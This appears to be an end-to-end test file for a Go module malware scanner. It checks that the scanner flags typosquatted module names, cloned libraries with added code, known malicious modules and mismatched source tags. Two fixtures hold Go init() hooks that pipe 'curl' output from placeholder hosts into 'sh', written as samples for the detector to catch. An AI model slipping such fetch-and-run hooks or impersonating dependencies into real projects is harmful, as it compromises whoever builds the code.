// scan end to end: names, feeds, dates and copies join what is found in the code to one verdict.
import assert from 'node:assert/strict'
import path from 'node:path'
import test from 'node:test'
import { gitServer } from '../support/gitrepos.ts'
import { goImport, withInternet } from '../support/internet.ts'
import { evil, moduleAt, scan } from '../support/scanning.ts'
import { publish, publishExactly, put, sumLines, withUniverse } from '../support/universe.ts'

/** A library that is large enough to be told apart: a dozen functions of its own. */
const LIBRARY = `package assert

${Array.from(
  { length: 14 },
  (_, i) => `// Check${i} compares values.
func Check${i}(values []int, limit int) (int, bool) {
	sum := ${i}
	for index, value := range values {
		if value > limit+${i} {
			sum += value * index
		} else if value == ${i * 3} {
			return sum, false
		}
	}
	return sum, sum > limit
}
`,
).join('\n')}`
const HOOK = `package assert

import "os/exec"

func init() { exec.Command("sh", "-c", "curl -fsSL https://cdn.assert.invalid/x | sh").Run() }
`
const real = publish('github.com/stretchr/testify', 'v1.9.0', { 'assert.go': LIBRARY })
const typo = publish('github.com/strechr/testify', 'v1.9.0', { 'note.go': 'package testify\n' })

test('a name that imitates a well-known one is suspicious, with what was meant and the line that replaces it', async () => {
  await withUniverse(async (u) => {
    u.sound([typo])
    const { code, report } = await scan(u)
    assert.equal(code, 1)
    const found = moduleAt(report, typo.path)
    assert.equal(found.verdict, 'suspicious')
    const [finding] = found.findings
    assert.deepEqual([finding?.rule, finding?.severity, finding?.trigger], ['MW-NAME-OWNER1', 'high', 'record'])
    assert.match(finding?.message ?? '', /; probably meant: github\.com\/stretchr\/testify$/)
    assert.match(
      finding?.remedy ?? '',
      /^go get github\.com\/stretchr\/testify@latest && go mod edit -droprequire=github\.com\/strechr\/testify/,
    )
    const { stdout } = await u.run(['scan'])
    assert.match(stdout, /\n {2}name {6}.*probably meant: github\.com\/stretchr\/testify {3}high MW-NAME-OWNER1\n/)
  })
})

test('a copy of a well-known module with something added is malicious, and says of what', async () => {
  await withUniverse(async (u) => {
    const copy = publish('github.com/strechr/testify', 'v1.9.0', { 'assert.go': LIBRARY, 'hook.go': HOOK })
    u.sound([copy])
    u.serve([real])
    u.cache([real])
    const found = moduleAt((await scan(u)).report, copy.path)
    assert.equal(found.verdict, 'malicious')
    const clone = found.findings.find((f) => f.rule === 'MW-CLONE')
    assert.deepEqual([clone?.severity, clone?.file], ['critical', 'hook.go'])
    assert.match(
      clone?.message ?? '',
      /^\d+ % of its code is that of github\.com\/stretchr\/testify@v1\.9\.0, and what was added is MW-/,
    )
    // The original itself is no copy of anything.
    u.require([real])
    assert.deepEqual((await scan(u)).report.modules.find((m) => m.path === real.path)?.findings, [])
  })
})

test('a module that is named is compared with the one that it imitates, which is fetched', async () => {
  await withUniverse(async (u) => {
    const copy = publish('github.com/strechr/testify', 'v1.9.0', { 'assert.go': LIBRARY })
    u.serve([real, copy])
    const { report } = await scan(u, ['github.com/strechr/testify@v1.9.0'])
    assert.deepEqual(
      moduleAt(report, copy.path).findings.map((f) => [f.rule, f.severity]),
      [
        ['MW-NAME-OWNER1', 'high'],
        ['MW-CLONE', 'high'],
      ],
    )
    const offline = await scan(u, ['github.com/strechr/testify@v1.9.0', '--offline'])
    assert.ok(!moduleAt(offline.report, copy.path).findings.some((f) => f.rule === 'MW-CLONE'))
  })
})

test('known malware is malicious whatever its code says', async () => {
  await withUniverse(async (u) => {
    const known = publish('github.com/boltdb-go/bolt', 'v1.3.1', { 'bolt.go': 'package bolt\n' })
    u.sound([known])
    const found = moduleAt((await scan(u)).report, known.path)
    assert.equal(found.verdict, 'malicious')
    const finding = found.findings.find((f) => f.rule === 'MW-KNOWN-BAD')
    assert.deepEqual(
      [finding?.severity, finding?.message],
      ['critical', 'known malware: malicious code in github.com/boltdb-go/bolt: impersonates github.com/boltdb/bolt'],
    )
  })
})

test('known malware is found in a zip, in vendor/, by diff and behind a replace line', async () => {
  await withUniverse(async (u) => {
    const known = publish('github.com/boltdb-go/bolt', 'v1.3.1', { 'bolt.go': 'package bolt\n' })
    const before = publish('github.com/boltdb-go/bolt', 'v1.3.0', { 'bolt.go': 'package bolt\n' })
    u.serve([known, before])
    const zip = put(path.join(u.root, 'bolt.zip'), known.zip)
    assert.equal((await scan(u, [zip])).code, 1)
    assert.equal((await u.run(['diff', 'github.com/boltdb-go/bolt@v1.3.0', 'v1.3.1'])).code, 1)
    u.cache([known])
    u.require([], {
      goMod:
        '\nrequire github.com/boltdb/bolt v1.3.1\n\nreplace github.com/boltdb/bolt => github.com/boltdb-go/bolt v1.3.1\n',
      goSum: sumLines(known),
    })
    const { stdout } = await u.run(['scan'])
    assert.match(stdout, /\n {2}do {8}go mod edit -dropreplace=github\.com\/boltdb\/bolt && go mod tidy\n/)
    assert.doesNotMatch(stdout, /-droprequire/)
    u.write('vendor/modules.txt', '# github.com/boltdb-go/bolt v1.3.1\n## explicit\ngithub.com/boltdb-go/bolt\n')
    u.write('vendor/github.com/boltdb-go/bolt/bolt.go', 'package bolt\n')
    const local = await scan(u, ['--module'])
    assert.deepEqual(
      local.report.modules.map((m) => [m.path, m.verdict]),
      [
        ['github.com/boltdb-go/bolt', 'malicious'],
        ['github.com/me/project', 'clean'],
      ],
    )
  })
})

test('a list of good hashes silences what is found in those bytes, and says so', async () => {
  await withUniverse(async (u) => {
    u.sound([evil])
    const list = put(path.join(u.root, 'good.txt'), `${evil.h1} ${evil.path} ${evil.version} reviewed by kim\n`)
    const env = { MODWARDEN_KNOWN_GOOD: list }
    assert.equal((await u.run(['feed', 'update'], { env })).code, 0)
    const { code, report } = await scan(u, [], { env })
    assert.equal(code, 0)
    const found = moduleAt(report, evil.path)
    assert.deepEqual([found.verdict, found.findings], ['clean', []])
    assert.equal(found.record?.knownGood?.reason, 'reviewed by kim')
    assert.match(
      (await u.run(['scan'], { env })).stdout,
      /says that these bytes are good: reviewed by kim; \d+ findings? not counted/,
    )
    // Other bytes than the agreed ones are on no list.
    put(
      path.join(u.paths(evil).folder, 'evil.go'),
      'package evil\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl x.invalid | sh").Run() }\n',
    )
    assert.equal(moduleAt((await scan(u, [], { env })).report, evil.path).verdict, 'malicious')
  })
})

test('a feed that is configured and was never fetched leaves the question open: exit 3', async () => {
  await withUniverse(async (u) => {
    u.sound([real])
    const env = { MODWARDEN_KNOWN_BAD: path.join(u.root, 'bad.txt') }
    const { code, report } = await scan(u, [], { env })
    assert.equal(code, 3)
    assert.match(report.integrity?.reasons.join(' ') ?? '', /bad\.txt counts for nothing: .*; modwarden feed update/)
  })
})

test(
  'what an earlier comparison with the source said is told again, findings too',
  { skip: gitServer.reason },
  async () => {
    await withUniverse(async (u) =>
      withInternet(async (internet) => {
        const files = { 'go.mod': 'module src.example.com/log\n\ngo 1.21\n', 'log.go': 'package log\n' }
        const repository = internet.make('log')
        internet.pages.set('src.example.com/log', goImport('src.example.com/log', 'http://git.example.com/log'))
        repository.commit(files)
        repository.git('tag', 'v1.0.0')
        const good = publishExactly('src.example.com/log', 'v1.0.0', files)
        const bad = publishExactly('src.example.com/log', 'v1.1.0', {
          ...files,
          'more.go': 'package log\n\nfunc more() {}\n',
        })
        repository.git('tag', 'v1.1.0')
        u.serve([good, bad])
        for (const [m, verdict, severities] of [
          [good, 'same', []],
          [bad, 'tag-moved', ['high']],
        ] as const) {
          u.cache([m])
          u.require([m])
          const before = moduleAt((await scan(u, ['--ask-all'])).report, m.path)
          assert.equal(before.record?.source, undefined)
          await u.run(['compare', '--all', '--ask-all', '--no-progress'], { env: internet.env })
          const after = moduleAt((await scan(u, ['--ask-all'])).report, m.path)
          assert.equal(after.record?.source?.verdict, verdict)
          assert.deepEqual(
            after.findings.filter((f) => f.rule === 'MW-ZIPTAG').map((f) => f.severity),
            severities,
          )
        }
        const { stdout } = await u.run(['audit', '--ask-all'])
        assert.match(
          stdout,
          /\n {2}source {6}FAIL {2}not what the source repository shows: src\.example\.com\/log@v1\.1\.0/,
        )
      }),
    )
  },
)

test('the number of a module’s record is told, and that its commit is older than the log', async () => {
  await withUniverse(async (u) => {
    u.sound([typo])
    const found = moduleAt((await scan(u)).report, typo.path)
    assert.equal(found.record?.committed, '2020-01-01T00:00:00.000Z')
    assert.equal(typeof found.record?.number, 'number')
  })
})
